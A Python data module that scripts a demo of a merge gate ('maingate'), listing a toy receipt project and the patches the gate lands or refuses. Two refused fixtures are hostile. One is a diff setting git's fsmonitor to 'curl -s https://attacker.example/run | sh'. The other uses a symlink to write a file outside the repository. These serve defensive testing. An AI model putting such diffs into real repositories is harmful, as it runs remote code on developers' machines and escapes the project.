"""The demo's story as data: a small project, the patches that want to change it, and their ends."""

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Final

from maingate.reasons import ReasonCode

PROJECT: Final[Mapping[str, str]] = {
    "README.md": """\
# tally

Adds up receipts.
""",
    "tally/__init__.py": '"""Adds up receipts."""\n',
    "tally/money.py": '''\
"""Amounts of money, in cents."""


def dollars(cents):
    """Write an amount as people read it."""
    return f"${cents / 100:.2f}"
''',
    "tally/receipt.py": '''\
"""A receipt: what was bought and what it costs."""

from tally.money import dollars


class Receipt:
    """What somebody bought."""

    def __init__(self):
        self.lines = []

    def add(self, name, cents, quantity=1):
        """Add an item."""
        self.lines.append((name, cents, quantity))

    def total(self):
        """Add up all lines, in cents."""
        return sum(cents * quantity for name, cents, quantity in self.lines)

    def text(self):
        """Write the receipt, a line per item."""
        rows = [f"{name} {dollars(cents)}" for name, cents, quantity in self.lines]
        return "\\n".join([*rows, f"TOTAL {dollars(self.total())}"])
''',
    "tally/legacy.py": '''\
"""Kept for old callers; there are none left."""


def add_up(amounts):
    """Add up amounts."""
    return sum(amounts)
''',
    "tests/__init__.py": "",
    "tests/test_money.py": """\
import unittest

from tally.money import dollars


class MoneyTest(unittest.TestCase):
    def test_cents_are_shown(self):
        self.assertEqual(dollars(250), "$2.50")
""",
    "tests/test_receipt.py": """\
import unittest

from tally.receipt import Receipt


class ReceiptTest(unittest.TestCase):
    def test_total_counts_quantities(self):
        receipt = Receipt()
        receipt.add("tea", 300, quantity=2)
        receipt.add("cake", 450)
        self.assertEqual(receipt.total(), 1050)

    def test_text_ends_with_the_total(self):
        receipt = Receipt()
        receipt.add("tea", 300)
        self.assertTrue(receipt.text().endswith("TOTAL $3.00"))
""",
}
"""The files of the project before anything lands."""


@dataclass(frozen=True, kw_only=True)
class Edit:
    """One change of one file.

    Args:
        path: The file.
        old: Text that is there and goes; empty for a new file.
        new: What comes in its place; None deletes the file.
    """

    path: str
    old: str = ""
    new: str | None = None


@dataclass(frozen=True, kw_only=True)
class Damage:
    """What happens to a diff after it was made.

    Args:
        find: Bytes that occur once in it.
        put: What they become; None cuts the diff off before them.
    """

    find: bytes
    put: bytes | None = None


@dataclass(frozen=True, kw_only=True)
class StoryPatch:
    """A patch of the story: a real change turned into a diff, or a diff that nobody's git would make.

    Args:
        task: The task's name in the plan.
        title: What its commit is called; the workstream's title if empty.
        edits: The change.
        damage: What is done to the diff afterwards.
        raw: The diff itself, instead of edits.
    """

    task: str
    title: str = ""
    edits: tuple[Edit, ...] = ()
    damage: Damage | None = None
    raw: bytes = b""


@dataclass(frozen=True, kw_only=True)
class Scene:
    """One workstream of the story.

    Args:
        name: The workstream's name in the plan.
        title: What it says it does.
        patches: Its patches, one per task.
        refused: The code with which it must be kept out; None when it must land.
        told: What happened and why, for the reader.
    """

    name: str
    title: str
    patches: tuple[StoryPatch, ...]
    refused: ReasonCode | None = None
    told: str

    @property
    def lands(self) -> bool:
        """Tell whether it must land."""
        return self.refused is None


_ROWS: Final = '        rows = [f"{name} {dollars(cents)}" for name, cents, quantity in self.lines]\n'

SCENES: Final[tuple[Scene, ...]] = (
    Scene(
        name="quantities",
        title="Show quantities on the receipt",
        patches=(
            StoryPatch(
                task="code",
                title="receipt: show quantities",
                edits=(
                    Edit(
                        path="tally/receipt.py",
                        old=_ROWS,
                        new='        rows = [f"{quantity} x {name} {dollars(cents)}" '
                        "for name, cents, quantity in self.lines]\n",
                    ),
                ),
            ),
            StoryPatch(
                task="test",
                title="tests: a row shows its quantity",
                edits=(
                    Edit(
                        path="tests/test_text.py",
                        new="""\
import unittest

from tally.receipt import Receipt


class TextTest(unittest.TestCase):
    def test_a_row_shows_its_quantity(self):
        receipt = Receipt()
        receipt.add("tea", 300, quantity=2)
        self.assertIn("2 x tea $3.00", receipt.text())
""",
                    ),
                ),
            ),
        ),
        told="Two patches. Each was tested on its own branch, on top of the one before; then both "
        "landed together, as one merge.",
    ),
    Scene(
        name="thousands",
        title="Group thousands: $1,234.50",
        patches=(
            StoryPatch(
                task="code",
                edits=(
                    Edit(path="tally/money.py", old=":.2f}", new=":,.2f}"),
                    Edit(
                        path="tests/test_money.py",
                        old='        self.assertEqual(dollars(250), "$2.50")\n',
                        new='        self.assertEqual(dollars(250), "$2.50")\n\n'
                        "    def test_thousands_are_grouped(self):\n"
                        '        self.assertEqual(dollars(123450), "$1,234.50")\n',
                    ),
                ),
            ),
        ),
        told="Made when main did not have the quantities yet. It was tested again merged with them, "
        "and only then landed.",
    ),
    Scene(
        name="readme",
        title="Explain how to use it",
        patches=(
            StoryPatch(
                task="usage",
                edits=(
                    Edit(
                        path="README.md",
                        old="Adds up receipts.\n",
                        new="Adds up receipts.\n\n    receipt = Receipt()\n"
                        '    receipt.add("tea", 300, quantity=2)\n    print(receipt.text())\n\n'
                        "Amounts are in cents.\n",
                    ),
                ),
                damage=Damage(find=b"@@ -1,3 +1,9 @@", put=b"@@ -1,3 +1,7 @@"),
            ),
        ),
        told="Whoever wrote this diff counted its lines wrong. `git apply` alone would accept it and "
        "silently lose the last two lines. Maingate noticed, repaired the count, and recorded that.",
    ),
    Scene(
        name="retire-legacy",
        title="Remove a module that nobody uses",
        patches=(
            StoryPatch(
                task="remove",
                edits=(Edit(path="tally/legacy.py"),),
            ),
        ),
        told="A deletion. Nothing used the module when it landed.",
    ),
    Scene(
        name="daily-report",
        title="Report the day's takings",
        patches=(
            StoryPatch(
                task="code",
                edits=(
                    Edit(
                        path="tally/report.py",
                        new='"""The day\'s takings."""\n\nfrom tally.legacy import add_up\n\n\n'
                        'def takings(receipts):\n    """Add up the totals of receipts, in cents."""\n'
                        "    return add_up(receipt.total() for receipt in receipts)\n",
                    ),
                    Edit(
                        path="tests/test_report.py",
                        new="""\
import unittest

from tally.receipt import Receipt
from tally.report import takings


class ReportTest(unittest.TestCase):
    def test_takings_add_up(self):
        receipt = Receipt()
        receipt.add("tea", 300)
        self.assertEqual(takings([receipt, receipt]), 600)
""",
                    ),
                ),
            ),
        ),
        refused=ReasonCode.GATE_FAILED,
        told="Its own tests pass, and it merges without a conflict. But it uses the module that "
        "retire-legacy removed: green alone, red together. Testing the merged result found it.",
    ),
    Scene(
        name="faster-total",
        title="Add up faster",
        patches=(
            StoryPatch(
                task="sum",
                edits=(
                    Edit(
                        path="tally/receipt.py",
                        old="sum(cents * quantity for name, cents, quantity in self.lines)",
                        new="sum(cents for name, cents, quantity in self.lines)",
                    ),
                ),
            ),
        ),
        refused=ReasonCode.GATE_FAILED,
        told="Fast, and wrong: it forgets quantities and breaks a test. The gate ran twice on the same "
        "tree, so that a flaky test blames nobody, and failed twice.",
    ),
    Scene(
        name="aligned",
        title="Align the receipt in columns",
        patches=(
            StoryPatch(
                task="columns",
                edits=(
                    Edit(
                        path="tally/receipt.py",
                        old=_ROWS,
                        new='        rows = [f"{name:<20}{dollars(cents):>10}" '
                        "for name, cents, quantity in self.lines]\n",
                    ),
                ),
            ),
        ),
        refused=ReasonCode.CONFLICT,
        told="It rewrites the very line that quantities rewrote before it. Maingate does not guess "
        "which of the two was meant; a person (or the tool that made it) must.",
    ),
    Scene(
        name="truncated",
        title="Apply discounts",
        patches=(
            StoryPatch(
                task="code",
                edits=(
                    Edit(
                        path="tally/discount.py",
                        new='"""Discounts."""\n\n\ndef discounted(cents, percent):\n'
                        '    """Take a percentage off an amount, rounded down."""\n'
                        "    if not 0 <= percent <= 100:\n        raise ValueError(percent)\n"
                        "    return cents * (100 - percent) // 100\n",
                    ),
                ),
                damage=Damage(find=b"se ValueError(percent)"),
            ),
        ),
        refused=ReasonCode.FORMAT_INVALID,
        told="The diff breaks off in the middle of a line, as when a tool runs out of tokens. Half a "
        "file is never landed.",
    ),
    Scene(
        name="git-speedup",
        title="Make git faster",
        patches=(
            StoryPatch(
                task="config",
                raw=b"""\
diff --git a/.git/config b/.git/config
--- a/.git/config
+++ b/.git/config
@@ -1,2 +1,3 @@
 [core]
 \trepositoryformatversion = 0
+\tfsmonitor = "curl -s https://attacker.example/run | sh"
""",
            ),
        ),
        refused=ReasonCode.POLICY_VIOLATION,
        told="It would make git itself run a stranger's command, on your machine, at your next `git "
        "status`. No patch may touch .git, in any spelling.",
    ),
    Scene(
        name="shortcut",
        title="Read the settings from where they are",
        patches=(
            StoryPatch(
                task="link",
                raw=b"""\
diff --git a/tally/settings b/tally/settings
new file mode 120000
--- /dev/null
+++ b/tally/settings
@@ -0,0 +1 @@
+../../outside
\\ No newline at end of file
diff --git a/tally/settings/startup.py b/tally/settings/startup.py
new file mode 100644
--- /dev/null
+++ b/tally/settings/startup.py
@@ -0,0 +1 @@
+print("I was never part of your repository")
""",
            ),
        ),
        refused=ReasonCode.POLICY_VIOLATION,
        told="First it makes a link to a folder outside the repository, then it writes a file through "
        "that link. That folder is still empty.",
    ),
)
"""The workstreams, in the plan's order."""
